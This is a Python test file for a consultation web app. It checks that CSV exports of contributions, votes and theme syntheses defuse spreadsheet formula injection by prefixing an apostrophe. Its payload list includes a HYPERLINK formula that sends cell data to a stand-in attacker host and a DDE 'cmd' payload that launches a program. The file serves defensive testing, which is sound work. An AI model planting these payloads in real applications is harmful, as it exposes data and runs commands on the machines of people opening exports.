"""Formula injection: whatever a member writes that a spreadsheet would run (a cell starting with
= + - @, a tab or a carriage return) reaches every CSV export as text, marked with a leading "'",
and nothing else of it is lost.

The exports checked, each downloaded as a facilitator does:
- contributions.csv and votes.csv of a consultation (/facilitate/consultations/<id>/export);
- the themes CSV of a synthesis, draft and published (slow: it needs an analysis).
"""

import csv
import io
import re

import pytest
from sqlmodel import select

from consult.db import get_session
from tests.helpers import as_person, contribute, create, read

# What a member may type at the start of a text to make a spreadsheet run it.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A2;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1 après une tabulation",
    "\r=1+1 après un retour chariot",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(body: bytes) -> list[dict]:
    """The CSV as a spreadsheet reads it: BOM dropped, ";" between cells."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_neutralised(rows: list[dict], written: str) -> None:
    """`written` is in some cell, kept whole but for what the app tidies (surrounding blanks),
    behind the "'" that tells a spreadsheet it is text; no cell of the file would run."""
    kept = written.strip()
    found = [v for row in rows for v in row.values() if v and v.lstrip("'").strip() == kept]
    assert found, (written, rows)
    for value in found:
        assert value.startswith("'"), value
    for row in rows:
        for value in row.values():
            if value and value.startswith(FORMULA_STARTS):
                assert re.fullmatch(r"[+-]?\d+([.,]\d+)?", value), (value, row)


def test_member_texts_college_names_and_reasons_are_neutralised_in_the_consultation_csv(
        app, people):
    staff = people.college("=Salariés", 50)  # an administrator's college name is a cell too
    people.add("anim@coop.example", name="Ysé Anim", roles=("facilitator",), college_id=staff.id)
    people.add("ana@coop.example", name="Ana Durand", college_id=staff.id)
    people.add("bo@coop.example", name="Bo Martin", college_id=staff.id)
    cid, facilitator = create(app, {"staff": staff}, anonymity="named")
    ana, bo = as_person(app, "ana@coop.example"), as_person(app, "bo@coop.example")
    for text in PAYLOADS:
        assert contribute(ana, cid, text).status_code == 302
    with app.app_context():
        from consult.models import Contribution

        ids = [c.id for c in get_session().exec(select(Contribution).order_by(Contribution.id))]
    assert len(ids) == len(PAYLOADS)
    for contribution_id in ids:
        bo.form_post(f"/consultations/{cid}/vote", {"value": "-1"},
                     post_url=f"/consultations/contributions/{contribution_id}/vote")
    page = f"/facilitate/consultations/{cid}"
    facilitator.form_post(page, {"reason": "+ hors sujet"},
                          post_url=f"/facilitate/contributions/{ids[0]}/hide")

    export = f"/facilitate/consultations/{cid}/export"
    response = facilitator.form_post(export, {"format": "contributions.csv", "original": "y"})
    assert response.status_code == 200, read(response)
    rows = cells(response.get_data())
    for written in (*PAYLOADS, "=Salariés", "+ hors sujet"):
        assert_neutralised(rows, written)
    assert len(rows) == len(PAYLOADS)

    votes = cells(facilitator.form_post(export, {"format": "votes.csv"}).get_data())
    assert len(votes) == len(PAYLOADS)
    assert_neutralised(votes, "=Salariés")  # participants are refs, never members' names


@pytest.mark.slow  # the demo is analysed with spaCy
def test_theme_labels_and_summaries_are_neutralised_in_the_synthesis_csv(app, analysed_demo):
    from consult.services import synthesis, workspace
    from consult.services.explorer import read_analysis
    from consult.services.members import find_by_email
    from tests.helpers import Browser

    loaded, cid = analysed_demo, analysed_demo.consultation_id
    with app.app_context():
        db = get_session()
        facilitator = find_by_email(db, loaded.admin_email)
        first, second = read_analysis(db, workspace.done_run(db, cid)).themes[:2]
        workspace.edit_theme(db, facilitator, cid, "rename", first.id, label=PAYLOADS[0])
        workspace.edit_theme(db, facilitator, cid, "summary", first.id, text=PAYLOADS[3])
        workspace.edit_theme(db, facilitator, cid, "rename", second.id, label=PAYLOADS[2])
    admin = Browser(app.test_client())
    assert admin.login(loaded.admin_email, loaded.password).status_code == 302
    draft = admin.client.get(f"/facilitate/consultations/{cid}/synthesis/draft.csv")
    assert draft.status_code == 200
    with app.app_context():
        db = get_session()
        synthesis.publish(db, find_by_email(db, loaded.admin_email), cid)
    published = admin.client.get(f"/consultations/{cid}/synthese.csv")
    assert published.status_code == 200
    for body in (draft.get_data(), published.get_data()):
        rows = cells(body)
        for written in (PAYLOADS[0], PAYLOADS[3], PAYLOADS[2]):
            assert_neutralised(rows, written)
